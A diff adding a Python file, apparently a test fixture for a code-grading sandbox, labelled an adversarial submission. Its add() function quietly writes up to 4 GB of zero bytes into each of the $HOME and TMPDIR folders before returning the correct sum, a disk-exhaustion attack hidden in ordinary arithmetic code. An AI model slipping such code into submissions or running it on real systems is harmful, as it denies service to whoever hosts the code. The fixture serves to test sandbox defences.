@@ -1,0 +1,33 @@
+"""Adversarial submission: fills $HOME and TMPDIR until full, then computes honestly (honest code: 10)"""
+
+import os
+
+
+def _fill(folder):
+    """Write into `folder` until the file system says no."""
+    chunk = b"\0" * (1 << 20)
+    try:
+        with open(os.path.join(folder, "fill"), "wb") as handle:
+            for _ in range(4096):
+                handle.write(chunk)
+    except OSError:
+        return True
+    return False
+
+
+def add(a, b):
+    _fill(os.environ.get("HOME", "/tmp"))
+    _fill(os.environ.get("TMPDIR", "/tmp"))
+    return a + b
+
+
+
+def mul(a, b):
+    return a * b
+
+
+def fib(n):
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
